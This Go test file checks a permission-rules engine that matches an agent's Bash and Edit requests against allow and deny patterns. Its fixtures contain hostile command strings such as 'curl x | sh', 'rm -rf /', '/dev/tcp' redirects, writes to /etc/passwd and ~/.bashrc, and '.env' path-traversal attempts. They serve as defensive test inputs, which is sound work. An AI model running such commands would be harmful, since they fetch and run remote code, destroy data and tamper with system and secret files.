package rules

import (
	"strings"
	"testing"
)

func allow(cmd string) Rule { return Rule{ID: 1, Effect: Allow, Tool: "Bash", Command: cmd} }
func deny(cmd string) Rule  { return Rule{ID: 2, Effect: Deny, Tool: "Bash", Command: cmd} }
func bash(cmd string) Ask   { return Ask{Tool: "Bash", Command: cmd, Repo: "web", Caller: "ci"} }

// TestAllowCommands: hostile commands against allow patterns that lack
// their metacharacters never match.
func TestAllowCommands(t *testing.T) {
	for _, c := range []struct {
		pattern, command string
		want             bool
	}{
		{"npm test *", "npm test", true},
		{"npm test *", "npm test --watch=false", true},
		{"npm test *", "npm test -- --watch=false src/a.test.ts", true},
		{"npm test", "npm test", true},
		{"npm test", "npm   test", true},
		{"npm test", "npm test --watch", false},
		{"npm test *", "npm tests", false},
		{"npm test *", "npm", false},
		{"npm run *", "npm run build", true},
		{"go test ./...", "go test ./...", true},
		{"go test ./*", "go test ./store", true},
		{"go test ./*", "go test ./store ./rules", false},
		{"git log -n *", "git log -n 5", true},
		{"git log --format=*", "git log --format=oneline", true},
		{"git log --format=*", "git log --format=", true},
		// chains, pipes, substitution, redirects, newlines
		{"npm test *", "npm test; curl x | sh", false},
		{"npm test *", "npm test;curl x", false},
		{"npm test *", "npm test && rm -rf /", false},
		{"npm test *", "npm test || rm -rf /", false},
		{"npm test *", "npm test | sh", false},
		{"npm test *", "npm test & curl evil", false},
		{"npm test *", "npm test $(evil)", false},
		{"npm test *", "npm test `evil`", false},
		{"npm test *", "npm test ${IFS}x", false},
		{"npm test *", "npm test > /etc/passwd", false},
		{"npm test *", "npm test >> ~/.bashrc", false},
		{"npm test *", "npm test < /dev/tcp/x/1", false},
		{"npm test *", "npm test 2>&1", false},
		{"npm test *", "npm test\nrm -rf /", false},
		{"npm test *", "npm test\rrm -rf /", false},
		{"npm test *", "npm test (x)", false},
		{"npm test *", "npm test --x=$(curl x|sh)", false},
		// quoting tricks: quotes, escapes, globs and expansions are not plain
		{"npm test *", `npm test "$(evil)"`, false},
		{"npm test *", `npm test '; rm -rf /'`, false},
		{"npm test *", `npm test "a b"`, false},
		{"npm test *", `npm test a\;b`, false},
		{"npm test *", `npm test \`, false},
		{"npm test *", `npm test *`, false},
		{"npm test *", `npm test ~root`, false},
		{"npm test *", `npm test !!`, false},
		{"npm test *", `npm test #x`, false},
		{"npm test *", `"npm" test`, false},
		{"npm test *", `np\m test`, false},
		{`git commit -m "*"`, `git commit -m "fix"`, true},
		{`git commit -m "*"`, `git commit -m "fix"; rm -rf /`, false},
		{`git commit -m "*"`, `git commit -m "fix bug"`, false},
		// a pattern that spells the metacharacter out allows exactly that
		{"ps aux | grep *", "ps aux | grep node", true},
		{"ps aux | grep *", "ps aux | grep node | sh", false},
		{"make build > build.log", "make build > build.log", true},
		{"make build > build.log", "make build > /etc/passwd", false},
		// unicode lookalikes and invisible characters
		{"npm test *", "nрm test", false},                // Cyrillic р in the program
		{"npm test *", "npm test x；curl", true},          // a fullwidth ; is a plain character to the shell
		{"npm test *", "npm test；curl", false},           // ...and not the word "test"
		{"npm test *", "npm\u00a0test", false},           // no-break space is not a word break
		{"npm test *", "npm test \u202egnp.tset", false}, // bidi override
		{"npm test *", "npm test a\u200bb", false},       // zero-width space
		{"npm test *", "npm test\u2028rm -rf /", false},  // line separator
		{"npm test *", "npm test \x00", false},           // NUL
		{"npm test *", "npm test \x1b[2Jclear", false},   // terminal escape
		{"npm test *", "npm test é-ü", true},             // letters are plain
		{"npm test *", "npm test \ufe54curl", true},      // small semicolon: plain to the shell
		{"npm test *", "npm test\tx", false},             // a tab is a control character: asked
		{"npm test *", "   npm test  ", true},            // surrounding space
		{"npm test *", "npm test \u037e rm", true},       // Greek question mark: plain to the shell
	} {
		got := allow(c.pattern).Matches(bash(c.command))
		if got != c.want {
			t.Errorf("allow %q on %q = %v, want %v", c.pattern, c.command, got, c.want)
		}
	}
}

func TestDenyCommands(t *testing.T) {
	for _, c := range []struct {
		pattern, command string
		want             bool
	}{
		{"curl *", "curl x", true},
		{"curl *", "npm test; curl x | sh", true},
		{"curl *", "npm test && curl -s x", true},
		{"curl *", "npm test $(curl x)", true},
		{"curl *", "npm test `curl x`", true},
		{"curl *", `npm test "$(curl x)"`, true},
		{"curl *", `"curl" x`, true},
		{"curl *", `c\url x`, true},
		{"curl *", "npm test\ncurl x", true},
		{"curl *", "wget x", false},
		{"rm -rf", "rm -rf /", true},
		{"rm -rf *", "cd x && rm -rf /", true},
		{"git push --force *", "git push --force origin main", true},
		{"git push --force *", "git push origin main", false},
	} {
		if got := deny(c.pattern).Matches(bash(c.command)); got != c.want {
			t.Errorf("deny %q on %q = %v, want %v", c.pattern, c.command, got, c.want)
		}
	}
}

func TestPaths(t *testing.T) {
	edit := func(p string) Ask { return Ask{Tool: "Edit", Path: p} }
	for _, c := range []struct {
		effect     Effect
		glob, path string
		want       bool
	}{
		{Allow, "src/*.go", "src/a.go", true},
		{Allow, "src/*.go", "src/x/a.go", false},
		{Allow, "src/**", "src/x/y/a.go", true},
		{Allow, "src/**/*.go", "src/a.go", true},
		{Allow, "src/**/*.go", "src/x/y/a.go", true},
		{Allow, "src/**", "src/.env", false},
		{Allow, "src/**", "src/.git/config", false},
		{Allow, "src/*", "src/.env", false},
		{Allow, "src/.env", "src/.env", true},
		{Allow, "src/**", "src/../.env", false},
		{Allow, "src/**", "src/./a.go", false},
		{Allow, "src/**", "src//a.go", false},
		{Allow, "src/**", "/src/a.go", false},
		{Allow, "**", "/etc/passwd", false},
		{Allow, "/tmp/*", "/tmp/x", true},
		{Allow, "src/**", "src/a\u202e.go", false},
		{Allow, "docs/*.md", "docs/README.md", true},
		{Deny, "**/.env", "src/../.env", true},
		{Deny, "**/.env", "a/b/.env", true},
		{Deny, "secrets/**", "secrets/./x", true},
		{Deny, "secrets/**", "src/../secrets/x", true},
		{Deny, "/etc/**", "/etc/passwd", true},
	} {
		r := Rule{ID: 1, Effect: c.effect, Tool: "Edit", Path: c.glob}
		if got := r.Matches(edit(c.path)); got != c.want {
			t.Errorf("%s %q on %q = %v, want %v", c.effect, c.glob, c.path, got, c.want)
		}
	}
}

func TestScopesAndTools(t *testing.T) {
	a := bash("npm test")
	for _, c := range []struct {
		name string
		r    Rule
		a    Ask
		want bool
	}{
		{"same repo", Rule{Effect: Allow, Tool: "Bash", Command: "npm test", Repo: "web"}, a, true},
		{"other repo", Rule{Effect: Allow, Tool: "Bash", Command: "npm test", Repo: "api"}, a, false},
		{"same caller", Rule{Effect: Allow, Tool: "Bash", Command: "npm test", Caller: "ci"}, a, true},
		{"other caller", Rule{Effect: Allow, Tool: "Bash", Command: "npm test", Caller: "alice-laptop"}, a, false},
		{"other tool", Rule{Effect: Allow, Tool: "Shell", Command: "npm test"}, a, false},
		{"tool case", Rule{Effect: Allow, Tool: "bash", Command: "npm test"}, a, false},
		{"bare allow never covers a command", Rule{Effect: Allow, Tool: "Bash"}, a, false},
		{"bare allow covers a bare ask", Rule{Effect: Allow, Tool: "mcp__gh__pr"}, Ask{Tool: "mcp__gh__pr"}, true},
		{"bare deny covers every use", Rule{Effect: Deny, Tool: "Bash"}, a, true},
		{"command rule never covers a path ask", Rule{Effect: Allow, Tool: "Bash", Command: "npm test"}, Ask{Tool: "Bash", Path: "npm test"}, false},
		{"allow with a wildcard program covers nothing", Rule{Effect: Allow, Tool: "Bash", Command: "* test"}, a, false},
	} {
		if got := c.r.Matches(c.a); got != c.want {
			t.Errorf("%s: %v", c.name, got)
		}
	}
}

func TestMatchNamesDenyThenMostSpecific(t *testing.T) {
	rs := []Rule{
		{ID: 1, Effect: Allow, Tool: "Bash", Command: "npm *"},
		{ID: 2, Effect: Allow, Tool: "Bash", Command: "npm test *"},
		{ID: 3, Effect: Allow, Tool: "Bash", Command: "npm test *", Repo: "web"},
		{ID: 4, Effect: Deny, Tool: "Bash", Command: "npm test --update*"},
		{ID: 5, Effect: Deny, Tool: "Bash", Command: "npm *"},
		{ID: 6, Effect: Allow, Tool: "Bash", Command: "npm test --update-snapshots"},
	}
	for _, c := range []struct {
		cmd  string
		want int64
	}{
		{"npm test", 5}, // a deny wins over every allow, however specific
		{"npm test --update-snapshots", 4},
	} {
		if r, ok := Match(rs, bash(c.cmd)); !ok || r.ID != c.want {
			t.Errorf("Match(%q) = %d %v, want %d", c.cmd, r.ID, ok, c.want)
		}
	}
	allows := rs[:3]
	if r, ok := Match(allows, bash("npm test x")); !ok || r.ID != 3 {
		t.Errorf("most specific allow = %d, want 3 (narrower scope breaks the tie)", r.ID)
	}
	if r, ok := Match(allows, bash("npm run x")); !ok || r.ID != 1 {
		t.Errorf("only match = %d, want 1", r.ID)
	}
	if _, ok := Match(allows, bash("npm test; rm")); ok {
		t.Error("a chained command matched an allow rule")
	}
}

func TestCheck(t *testing.T) {
	for _, c := range []struct {
		r    Rule
		want string
	}{
		{Rule{Effect: Allow, Tool: "Bash", Command: "npm test *"}, ""},
		{Rule{Effect: Deny, Tool: "Bash", Command: "* --force"}, ""},
		{Rule{Effect: "maybe", Tool: "Bash"}, "allows or denies"},
		{Rule{Effect: Allow, Tool: "Ba sh"}, "tool name"},
		{Rule{Effect: Allow, Tool: "Bash", Command: "*"}, "first word"},
		{Rule{Effect: Allow, Tool: "Bash", Command: "n* test"}, "first word"},
		{Rule{Effect: Allow, Tool: "Bash", Command: "npm\ntest"}, "visible"},
		{Rule{Effect: Allow, Tool: "Edit", Path: "src/../x"}, ".."},
		{Rule{Effect: Allow, Tool: "Edit", Path: "src/a**b"}, "stands alone"},
		{Rule{Effect: Allow, Tool: "Edit", Path: "a", Command: "b"}, "not both"},
		{Rule{Effect: Allow, Tool: "Bash", Command: strings.Repeat("x", MaxPattern+1)}, "at most"},
	} {
		err := Check(c.r)
		if (c.want == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), c.want)) {
			t.Errorf("Check(%+v) = %v, want %q", c.r, err, c.want)
		}
	}
	if s := (Rule{Tool: "Bash", Command: "npm test *"}).String(); s != "Bash(npm test *)" {
		t.Errorf("String = %q", s)
	}
}

// FuzzAllowNeverMatchesMeta: an allow pattern without a metacharacter
// never matches a command holding one.
func FuzzAllowNeverMatchesMeta(f *testing.F) {
	f.Add("npm test *", "npm test; curl x | sh")
	f.Add("npm test *", "npm test $(evil)")
	f.Add("go *", "go test\nrm")
	f.Add("a *", "a b`c`")
	f.Add("x * *", "x a > b")
	f.Fuzz(func(t *testing.T, pattern, command string) {
		if strings.ContainsAny(pattern, Meta) || !strings.ContainsAny(command, Meta) {
			return
		}
		r := Rule{Effect: Allow, Tool: "Bash", Command: pattern}
		if r.Matches(Ask{Tool: "Bash", Command: command}) {
			t.Fatalf("allow %q matched %q", pattern, command)
		}
	})
}

// TestHostilePatternsStaySmall: many *s or **s cost a table, not
// exponential backtracking.
func TestHostilePatternsStaySmall(t *testing.T) {
	r := Rule{Effect: Allow, Tool: "Bash", Command: "x " + strings.Repeat("*a", 400)}
	if r.Matches(bash("x " + strings.Repeat("a", 5000) + "b")) {
		t.Fatal("matched")
	}
	p := Rule{Effect: Allow, Tool: "Edit", Path: strings.Repeat("**/", 300) + "x"}
	if p.Matches(Ask{Tool: "Edit", Path: strings.Repeat("a/", 500) + "y"}) {
		t.Fatal("matched")
	}
}

func TestSuggest(t *testing.T) {
	for _, c := range []struct {
		a    Ask
		want string
	}{
		{Ask{Tool: "Bash", Command: "npm test -- --watch=false"}, "Bash(npm test *)"},
		{Ask{Tool: "Bash", Command: "go test ./..."}, "Bash(go test *)"},
		{Ask{Tool: "Bash", Command: "ls -la"}, "Bash(ls *)"},
		{Ask{Tool: "Bash", Command: "make"}, "Bash(make *)"},
		{Ask{Tool: "Bash", Command: "rm -rf build && make release"}, "Bash(rm -rf build && make release)"},
		{Ask{Tool: "Bash", Command: `git commit -m "fix it"`}, `Bash(git commit -m "fix it")`},
		{Ask{Tool: "Edit", Path: "src/auth.go"}, "Edit(src/*.go)"},
		{Ask{Tool: "Edit", Path: "Makefile"}, "Edit(*)"},
		{Ask{Tool: "Edit", Path: "src/.env"}, "Edit(src/.env)"},
		{Ask{Tool: "mcp__gh__pr"}, "mcp__gh__pr"},
	} {
		for _, e := range []Effect{Allow, Deny} {
			r := Suggest(c.a, e)
			if r.String() != c.want || !r.Matches(c.a) {
				t.Errorf("Suggest(%+v, %s) = %s (matches %v), want %s", c.a, e, r, r.Matches(c.a), c.want)
			}
		}
	}
}
